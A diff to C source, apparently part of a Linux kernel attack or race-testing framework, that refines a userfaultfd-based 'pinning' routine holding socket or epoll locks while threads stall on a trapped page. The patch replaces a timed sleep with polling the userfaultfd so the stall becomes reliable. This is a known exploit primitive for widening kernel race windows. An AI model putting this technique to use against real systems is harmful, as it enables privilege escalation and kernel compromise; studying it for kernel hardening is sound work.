@@ -6,6 +6,7 @@
 #include "attack.h"
 
 #include <linux/userfaultfd.h>
+#include <poll.h>
 #include <pthread.h>
 #include <sys/epoll.h>
 #include <sys/eventfd.h>
@@ -28,7 +29,8 @@ static int pinned_make_page(const char *device)
 	struct uffdio_api api = {.api = UFFD_API};
 	struct uffdio_register r = {.mode = UFFDIO_REGISTER_MODE_MISSING};
 	int maker = (int)attack_need(device, open(device, O_RDWR | O_CLOEXEC));
-	int fd = (int)attack_need(device, ioctl(maker, USERFAULTFD_IOC_NEW, O_CLOEXEC));
+	int fd =
+		(int)attack_need(device, ioctl(maker, USERFAULTFD_IOC_NEW, O_CLOEXEC | O_NONBLOCK));
 
 	pinned_page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
 	attack_need("userfaultfd", ioctl(fd, UFFDIO_API, &api));
@@ -102,13 +104,15 @@ static void pinned_prepare(void *(*run)(void *), void *with)
 	attack_need("thread", -pthread_create(&thread, NULL, pinned_run, t));
 }
 
-/* Has a lock held by a thread that is in the page. */
-static void pinned_hold(void *(*run)(void *))
+/* Has a lock held by a thread that waits for the page, and returns once it does. */
+static void pinned_hold(void *(*run)(void *), int page)
 {
+	struct pollfd awaited = {.fd = page, .events = POLLIN};
 	pthread_t thread;
 
 	attack_need("thread", -pthread_create(&thread, NULL, run, NULL));
-	usleep(200000);
+	attack_need("wait for page",
+		    poll(&awaited, 1, -1) == 1 && awaited.revents == POLLIN ? 0 : -EIO);
 }
 
 static void pinned_by_memory(int threads)
@@ -118,16 +122,16 @@ static void pinned_by_memory(int threads)
 		pinned_prepare(pinned_option, NULL);
 }
 
-static void pinned_by_socket(int threads)
+static void pinned_by_socket(int threads, int page)
 {
 	pinned_file = attack_socket(pinned_to.sa.sa_family, SOCK_STREAM);
 	attack_need("connect", connect(pinned_file, &pinned_to.sa, pinned_to.len));
 	for (int i = 0; i < threads; i++)
 		pinned_prepare(pinned_listen, NULL);
-	pinned_hold(pinned_sender);
+	pinned_hold(pinned_sender, page);
 }
 
-static void pinned_by_epoll(int threads)
+static void pinned_by_epoll(int threads, int page)
 {
 	struct epoll_event e = {.events = EPOLLIN};
 	int ready = eventfd(1, EFD_CLOEXEC);
@@ -140,7 +144,7 @@ static void pinned_by_epoll(int threads)
 		attack_need("watch", epoll_ctl(pinned_epoll, EPOLL_CTL_ADD, file, &e));
 		pinned_prepare(pinned_connect, (void *)(intptr_t)file);
 	}
-	pinned_hold(pinned_waiter);
+	pinned_hold(pinned_waiter, page);
 }
 
 static void pinned_hand_over(const char *path, int file)
@@ -174,9 +178,9 @@ static int pinned_pin(int argc, char **argv)
 	if (memory)
 		pinned_by_memory(threads);
 	else if (strcmp(way, "socket") == 0)
-		pinned_by_socket(threads);
+		pinned_by_socket(threads, page);
 	else
-		pinned_by_epoll(threads);
+		pinned_by_epoll(threads, page);
 	pthread_barrier_wait(&pinned_barrier);
 	attack_hold();
 	_exit(0);
